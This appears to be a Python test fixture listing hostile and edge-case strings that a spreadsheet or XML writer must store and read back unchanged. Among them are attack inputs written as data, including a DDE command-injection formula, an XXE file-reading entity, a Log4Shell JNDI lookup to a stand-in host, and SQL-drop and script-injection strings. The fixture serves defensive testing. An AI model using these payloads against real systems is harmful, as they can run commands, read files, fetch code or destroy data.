"""Texts that have hurt spreadsheets, XML writers and readers; each must come back from a workbook as it went in."""

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1",
    '"=1+1"', ";=1+1", ",=1+1", "{=SUM(A1)}", "{1,2}", '=HYPERLINK("http://a.example","x")',
    '=IMPORTXML("http://a.example","//a")', "＝1+1", "＋1", "－1", "＠x", "−5.00", "%0A=1", "|calc", "=", "+", "-", "@",
    "http://a.example/?q=1&r=2", "mailto:a@b.example", "file:///etc/passwd", "external:\\\\host\\share",
    "internal:A1", "\\\\host\\share", "<r>", "</r>", "<r></r>", "<r><t>raw</t></r>", "<r>=1+1</r>",
    '<r></is></c><c r="B1"><f>1+1</f></c><c><is></r>', "<r>\x01_x0041_</r>", "_x0041_", "_x0041_x0042_", "_x005F_",
    "_x005F_x0041_", "_x000D_", "__x0041__", "_x41_", "_xFFFE_", "\x00", "\x01\x02\x1f", "\x0b\x0c", "\r\n",
    "a\rb\nc", "\x7f\x80\x9f", "\ufffe\uffff", "\u2028\u2029\x85", "\u200b\u200e\u202e\ufeff", " lead and trail ",
    "\ttab\t", "]]>", "<![CDATA[x]]>", "&amp;&lt;&#65;", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>&b;",
    "<script>alert(1)</script>", "'; DROP TABLE x; --", "\"'`\\", "${jndi:ldap://a.example}", "{{7*7}}", "TRUE",
    "FALSE", "NULL", "#N/A", "#DIV/0!", "1E5", "0012", "1/2", "2026-10-01", "12:30", "1,234.50", "Infinity", "NaN",
    "٣٤٥", "Ødegård", "e\u0301", "ﷺ", "👩🏽‍🚀🇰🇪", "\U0010ffff", "田中さん", "שלום", "Wanjirũ", "x" * 255, "y" * 32_767,
    "\U0001f600" * 16_383,
]  # fmt: skip
"""None longer than a cell's 32,767 UTF-16 units."""
